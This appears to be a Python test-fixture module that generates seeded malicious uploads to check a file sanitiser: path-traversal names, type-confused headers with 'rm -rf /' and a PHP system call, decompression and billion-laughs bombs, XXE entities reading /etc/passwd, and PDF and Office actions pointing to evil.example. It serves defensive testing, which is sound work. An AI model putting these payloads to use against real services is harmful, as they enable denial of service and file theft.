"""Bad uploads by the thousand, the same ones for the same seed: each is a name, the bytes, and what must come of them.

``REFUSED`` and ``CLEANED`` are exact; ``EITHER`` is for damage at random, of which some can be read all the same.
Whatever is cleaned holds no canary. The names are those that a browser would send, and they count for nothing.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO
from itertools import cycle, islice
from random import Random

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.uploads import samples
from tests.uploads.samples import CANARY, ODT_TYPE, RELATION, SPACES

REFUSED, CLEANED, EITHER = "refused", "cleaned", "either"
WHOLE = 1_200
NAMES = (
    *("../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\autoexec.bat", "foto.jpg\0.exe", "x" * 5_000),
    *(
        "\u202egpj.exe",
        "con.pdf",
        ".htaccess",
        "",
        " ",
        "a/b/c.docx",
        "foto.jpg",
        "plan.pdf",
        "<script>.png",
        "%2e%2e%2f",
    ),
)


@dataclass(frozen=True, slots=True)
class Bad:
    """One upload: where it comes from, what it is called, how it is made, and what must come of it."""

    family: str
    name: str
    make: Callable[[], bytes]
    outcome: str


def uploads(seed: int, how_many: int = WHOLE) -> Iterator[Bad]:
    """``how_many`` bad uploads, each family in turn, each time another one of it."""
    rolls = Random(seed)  # noqa: S311 - bad luck, not a secret
    turns = cycle(_FAMILIES.items())
    for family, (draw, outcome) in islice(turns, how_many):
        yield Bad(family, rolls.choice(NAMES), _drawn(draw, rolls.randrange(2**32)), outcome)


def _drawn(draw: Callable[[Random], bytes], seed: int) -> Callable[[], bytes]:
    return lambda: draw(Random(seed))  # noqa: S311 - bad luck, not a secret


# Files of another kind, whatever they are called

STRANGE = (
    *(
        b"MZ\x90\0",
        b"\x7fELF\x02\x01",
        b"#!/bin/sh\nrm -rf /\n",
        b"<html><script>alert(1)</script>",
        b"<?php system($x);",
    ),
    *(
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"GIF89a",
        b"BM\x36\0",
        b"II*\0",
        b"MM\0*",
        b"8BPS",
    ),
    *(
        b"\0\0\0\x20ftypisom\0\0\0\0isomiso2",
        b"\0\0\0\x20ftypavif\0\0\0\0avifmiaf",
        b"7z\xbc\xaf\x27\x1c",
        b"Rar!\x1a\x07",
    ),
    *(b"\xca\xfe\xba\xbe", b"\x1f\x8b\x08", b"ID3\x03", b"OggS", b"RIFF\0\0\0\0WAVE", b"RIFF\0\0\0\0AVI ", b"{\\rtf1"),
    *(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"naam;punten\n",
        b'{"a": 1}',
        b"\xef\xbb\xbf%PDF-1.4",
        b" \x89PNG\r\n\x1a\n",
    ),
)


def _strange(rolls: Random) -> bytes:
    return rolls.choice(STRANGE) + rolls.randbytes(rolls.randrange(2_000))


def _empty(_rolls: Random) -> bytes:
    return b""


def _too_long(rolls: Random) -> bytes:
    return rolls.choice(_good())().ljust(20_000_001 + rolls.randrange(500_000), b"\0")


def _sign_alone(rolls: Random) -> bytes:
    """The first bytes of a good file and nothing, or nonsense, behind them."""
    good = rolls.choice(_good())()
    return good[: rolls.randrange(1, 40)] + rolls.randbytes(rolls.choice([0, 1, 30, 3_000]))


# Good files that were damaged


def _good() -> tuple[Callable[[], bytes], ...]:
    return (
        samples.picture, lambda: samples.picture("PNG"), lambda: samples.picture("WEBP"), samples.heic, samples.pdf,
        samples.docx, samples.odt,
    )  # fmt: skip


def _cut_short(rolls: Random) -> bytes:
    good = rolls.choice(_good())()
    return good[: rolls.randrange(1, len(good))]


def _scratched(rolls: Random) -> bytes:
    """A few bytes changed anywhere."""
    good = bytearray(rolls.choice(_good())())
    for _each in range(rolls.choice([1, 3, 20, 200])):
        good[rolls.randrange(len(good))] = rolls.randrange(256)
    return bytes(good)


def _spliced(rolls: Random) -> bytes:
    """The beginning of one file and the end of another."""
    first, second = rolls.choice(_good())(), rolls.choice(_good())()
    return first[: rolls.randrange(8, len(first))] + second[rolls.randrange(len(second)) :]


# Pictures that unfold to more than there is memory


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 2) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + _chunk(b"IEND", b"")


def _huge_png(rolls: Random) -> bytes:
    """900 megapixels in its head, a few bytes behind it."""
    width = rolls.choice([30_000, 65_000, 2**31 - 1, 900_000_000])
    return _png(width, rolls.choice([30_000, 2**31 - 1]), _chunk(b"IDAT", zlib.compress(bytes(1_000))))


def _huge_jpeg(rolls: Random) -> bytes:
    good = bytearray(samples.picture())
    at = good.index(b"\xff\xc0") + 5
    good[at : at + 4] = struct.pack(">HH", rolls.randrange(40_000, 65_500), rolls.randrange(40_000, 65_500))
    return bytes(good)


def _huge_webp(rolls: Random) -> bytes:
    size = struct.pack("<I", 16_383)[:3]
    head = b"VP8X" + struct.pack("<I", 10) + bytes(4) + size + size
    body = b"WEBP" + head + rolls.randbytes(rolls.randrange(200))
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _huge_heic(rolls: Random) -> bytes:
    good = samples.heic()
    head, *rest = good.split(b"ispe" + bytes(4))
    size = struct.pack(">II", rolls.randrange(30_000, 2**31), rolls.randrange(30_000, 2**31))
    return head + b"".join(b"ispe" + bytes(4) + size + each[8:] for each in rest)


def _bomb_in_png(rolls: Random) -> bytes:
    """A text, a profile or a row that unfolds a thousand times, in a picture of one pixel."""
    bomb = zlib.compress(bytes(rolls.choice([10, 100]) * 1_000_000), 9)
    pixel = _chunk(b"IDAT", zlib.compress(b"\0\1\2\3"))
    extra = rolls.choice(
        [_chunk(b"zTXt", b"a\0\0" + bomb), _chunk(b"iCCP", b"a\0\0" + bomb), _chunk(b"iTXt", b"a\0\1\0\0\0" + bomb)]
    )
    return _png(1, 1, *rolls.choice([[extra, pixel], [pixel, extra], [_chunk(b"IDAT", bomb)]]))


def _largest_png(rolls: Random) -> bytes:
    """Forty megapixels of one colour, a few kilobytes: they are read, within bounds."""
    colour, depth, wide = rolls.choice([(2, 8, 3), (6, 8, 4), (0, 8, 1), (0, 16, 2), (4, 8, 2)])
    width = rolls.choice([8_000, 40_000])
    height = 40_000_000 // width
    packer = zlib.compressobj(1)
    row = bytes(1 + width * wide)
    rows = b"".join(packer.compress(row) for _each in range(height)) + packer.flush()
    return _png(width, height, _chunk(b"IDAT", rows), depth=depth, colour=colour)


def _many_frames(rolls: Random) -> bytes:
    file = BytesIO()
    frames = [samples.drawing((400, 400))] * rolls.randrange(20, 60)
    frames[0].save(file, rolls.choice(["PNG", "WEBP"]), save_all=True, append_images=frames[1:])
    return file.getvalue()


# Two files in one


def _polyglot(rolls: Random) -> bytes:
    """A picture or PDF with a program, a page or an archive behind it."""
    first = rolls.choice([samples.picture(), samples.picture("PNG"), samples.pdf()])
    tail = rolls.choice([b"<script>%s</script>", b"<?php %s ?>", b"#!/bin/sh\n%s", b"PK\x03\x04%s"]) % CANARY.encode()
    return first + tail


# PDFs that act, hide or turn in circles


def _changed(change: Callable[[pikepdf.Pdf], object], **options: object) -> bytes:
    with pikepdf.open(BytesIO(samples.pdf())) as made:
        change(made)
        return samples.saved(made, **options)


def _acting_pdf(rolls: Random) -> bytes:
    act = Dictionary(
        rolls.choice(
            [
                {"/S": Name.JavaScript, "/JS": String(CANARY)},
                {"/S": Name.Launch, "/F": String(CANARY)},
                {"/S": Name.URI, "/URI": String(f"javascript:{CANARY}")},
                {"/S": Name.SubmitForm, "/F": String(f"http://evil.example/{CANARY}")},
            ]
        )
    )

    def change(made: pikepdf.Pdf) -> None:
        where = rolls.choice(["open", "page", "names", "link", "file"])
        if where == "open":
            made.Root.OpenAction = act
        elif where == "page":
            made.pages[0].AA = Dictionary(O=act, C=act)
        elif where == "names":
            made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), act])))
        elif where == "link":
            made.pages[0].Annots = Array([Dictionary(Subtype=Name.Link, Rect=[0, 0, 9, 9], A=act)])
        else:
            made.attachments[f"{CANARY}.exe"] = CANARY.encode()

    return _changed(change)


def _locked_pdf(rolls: Random) -> bytes:
    user = rolls.choice(["", "geheim"])
    return _changed(lambda _made: None, encryption=pikepdf.Encryption(owner="baas", user=user))


def _raw_pdf(*objects: bytes) -> bytes:
    body = b"%PDF-1.7\n"
    for number, each in enumerate(objects, 1):
        body += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    return body + b"trailer\n<< /Root 1 0 R >>\n%%EOF"


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"


def _turning_pdf(rolls: Random) -> bytes:
    """Trees that bite their tail, depths without end, counts that lie, a stream that unfolds a thousand times."""
    deep = rolls.choice([100, 5_000, 400_000])
    bomb = zlib.compress(zlib.compress(bytes(50_000_000), 9), 9)
    stream = b"<< /Type /ObjStm /N 9 /First 10 /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n" % len(bomb)
    return rolls.choice(
        [
            _raw_pdf(_CATALOG, b"<< /Type /Pages /Count 1 /Kids [2 0 R] >>"),
            _raw_pdf(_CATALOG, b"<< /Type /Pages /Count 2000000000 /Kids [3 0 R] >>", b"<< /Kids [2 0 R 2 0 R] >>"),
            _raw_pdf(_CATALOG, b"<< /Type /Pages /Kids " + b"[" * deep + b"]" * deep + b">>"),
            _raw_pdf(_CATALOG, b"<< /Type /Pages /Kids 3 0 R >>", b"4 0 R", b"3 0 R"),
            _raw_pdf(_CATALOG, b"<< /Type /Pages /Count -1 /Kids [] >>"),
            _raw_pdf(_CATALOG, stream + bomb + b"\nendstream"),
            _raw_pdf(b"<< /Pages 1 0 R >>"),
            b"%PDF-1.7\n" + b"1 0 obj << " * deep,
            b"%PDF-" + bytes(100_000),
            b"%PDF-1.7\nxref\n0 4294967295\n" + b"0000000000 65535 f \n" * 100 + b"trailer <<>>",
        ]
    )


def _long_pdf(rolls: Random) -> bytes:
    """Many pages in a ring of links; it is read within bounds."""
    made = pikepdf.new()
    for _each in range(rolls.randrange(200, 600)):
        made.add_blank_page(page_size=(100, 100))
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String(CANARY))
    return samples.saved(made)


# Documents that act or unfold


def _bomb_in_zip(rolls: Random) -> bytes:
    kind = rolls.choice(["part", "many", "text", "odt"])
    if kind == "many":
        return samples.docx_with(parts={f"word/{number}.xml": b"" for number in range(rolls.randrange(1_000, 3_000))})
    size = rolls.choice([13, 61, 80]) * 1_000_000
    if kind == "odt":
        return samples.odt(parts={"content.xml": b" " * size})
    return samples.docx_with(parts={"word/document.xml" if kind == "text" else "word/media/image1.jpg": bytes(size)})


def _lying_zip(rolls: Random) -> bytes:
    """A part that says it is small and is not, or the other way round."""
    data = bytearray(samples.docx_with(parts={"word/document.xml": b" " * 100_000}))
    at = data.rindex(b"word/document.xml") - 46
    data[at + 24 : at + 28] = struct.pack("<I", rolls.choice([0, 10, 2**32 - 1, 2**31]))
    return bytes(data)


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_XML_BOMBS = (
    f'<!DOCTYPE d [<!ENTITY l0 "lol">{_LAUGHS}]><d>&l9;</d>',
    f'<!DOCTYPE d [<!ENTITY a "{"a" * 50_000}">]><d>{"&a;" * 5_000}</d>',
    '<!DOCTYPE d SYSTEM "http://evil.example/x.dtd"><d/>',
    '<!DOCTYPE d [<!ENTITY % a SYSTEM "file:///etc/passwd"> %a;]><d/>',
    '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><d>&a;</d>',
    "<d>" * 3_000 + "</d>" * 3_000,
    "<d " + " ".join(f'a{n}=""' for n in range(100_000)) + "><d>",
    "<d>" + "\ufffe" + "</d>",
)


def _bomb_in_xml(rolls: Random) -> bytes:
    text = rolls.choice(_XML_BOMBS)
    data = text.encode(rolls.choice(["utf-8", "utf-16"]), "replace")
    where = rolls.choice(["word/document.xml", "[Content_Types].xml", "word/_rels/document.xml.rels", "content.xml"])
    return samples.odt(parts={where: data}) if where == "content.xml" else samples.docx_with(parts={where: data})


def _relation(kind: str, target: str, *, outside: bool = False) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="bad" Type="{RELATION}/{kind}" Target="{target}"{mode}/>'


def _acting_docx(rolls: Random) -> bytes:
    bad = rolls.choice(
        [
            ("", _relation("vbaProject", "v.bin"), {"word/v.bin": CANARY}),
            ("", _relation("attachedTemplate", f"http://evil.example/{CANARY}", outside=True), {}),
            (f'<w:altChunk {SPACES} r:id="bad"/>', _relation("aFChunk", "a.html"), {"word/a.html": CANARY}),
            (f'<w:p {SPACES}><w:control r:id="bad"/></w:p>', _relation("control", "a.xml"), {"word/a.xml": CANARY}),
            (f'<w:p {SPACES}><w:fldSimple w:instr="DDE {CANARY}"/></w:p>', "", {}),
            (f'<w:p {SPACES}><w:del w:author="{CANARY}"/></w:p>', "", {}),
            ("", _relation("customXml", "../customXml/i.xml"), {"customXml/i.xml": f"<a>{CANARY}</a>"}),
            ("", _relation("oleObject", "e.bin"), {"word/e.bin": CANARY, f"../../{CANARY}": CANARY}),
        ]
    )
    return samples.docx_with(*bad)


def _acting_odt(rolls: Random) -> bytes:
    bad = rolls.choice(
        [
            (f"<office:scripts><office:script>{CANARY}</office:script></office:scripts>", {"Basic/m.xml": CANARY}),
            (f'<draw:frame><draw:object-ole xlink:href="./{CANARY}"/></draw:frame>', {CANARY: CANARY}),
            (f'<draw:frame><draw:image xlink:href="http://evil.example/{CANARY}"/></draw:frame>', {}),
            (f'<draw:frame><draw:plugin xlink:href="{CANARY}"/></draw:frame>', {f"../{CANARY}": CANARY}),
            (f'<text:a xlink:href="vnd.sun.star.script:{CANARY}">x</text:a>', {}),
        ]
    )
    return samples.odt(*bad)


def _other_office(rolls: Random) -> bytes:
    """A ZIP of another program: spreadsheet, slides, book, archive, macros, template."""
    macros = samples.unzipped(samples.docx())
    macros["[Content_Types].xml"] = macros["[Content_Types].xml"].replace(
        b"document.main+xml", b"document.macroEnabled"
    )
    sheet = {
        "[Content_Types].xml": '<Types><Override PartName="/xl/workbook.xml" ContentType="sheet.main+xml"/></Types>'
    }
    other = rolls.choice(["application/epub+zip", "application/vnd.oasis.opendocument.spreadsheet"])
    return samples.zipped(
        rolls.choice(
            [macros, sheet, {"mimetype": other}, {"META-INF/MANIFEST.MF": "a"}, {"mimetype": ODT_TYPE}, {"a": "b"}]
        )
    )


def _strange_picture_inside(rolls: Random) -> bytes:
    """A picture in a document that is a program, a TIFF or a picture that takes no part in documents."""
    inside = rolls.choice([b"MZ\x90", b"II*\0", b"<svg/>", samples.heic(), samples.picture("WEBP"), b""])
    if rolls.random() < 0.5:
        return samples.docx_with(parts={"word/media/image1.jpg": inside})
    return samples.odt(parts={"Pictures/plan.jpg": inside})


_FAMILIES: dict[str, tuple[Callable[[Random], bytes], str]] = {
    "strange": (_strange, REFUSED),
    "empty": (_empty, REFUSED),
    "too long": (_too_long, REFUSED),
    "sign alone": (_sign_alone, REFUSED),
    "cut short": (_cut_short, EITHER),
    "scratched": (_scratched, EITHER),
    "spliced": (_spliced, EITHER),
    "huge png": (_huge_png, REFUSED),
    "huge jpeg": (_huge_jpeg, REFUSED),
    "huge webp": (_huge_webp, REFUSED),
    "huge heic": (_huge_heic, REFUSED),
    "bomb in png": (_bomb_in_png, EITHER),
    "largest png": (_largest_png, CLEANED),
    "many frames": (_many_frames, CLEANED),
    "polyglot": (_polyglot, CLEANED),
    "acting pdf": (_acting_pdf, CLEANED),
    "locked pdf": (_locked_pdf, REFUSED),
    "turning pdf": (_turning_pdf, REFUSED),
    "long pdf": (_long_pdf, CLEANED),
    "bomb in zip": (_bomb_in_zip, REFUSED),
    "lying zip": (_lying_zip, REFUSED),
    "bomb in xml": (_bomb_in_xml, REFUSED),
    "acting docx": (_acting_docx, CLEANED),
    "acting odt": (_acting_odt, CLEANED),
    "other office": (_other_office, REFUSED),
    "strange picture inside": (_strange_picture_inside, REFUSED),
}
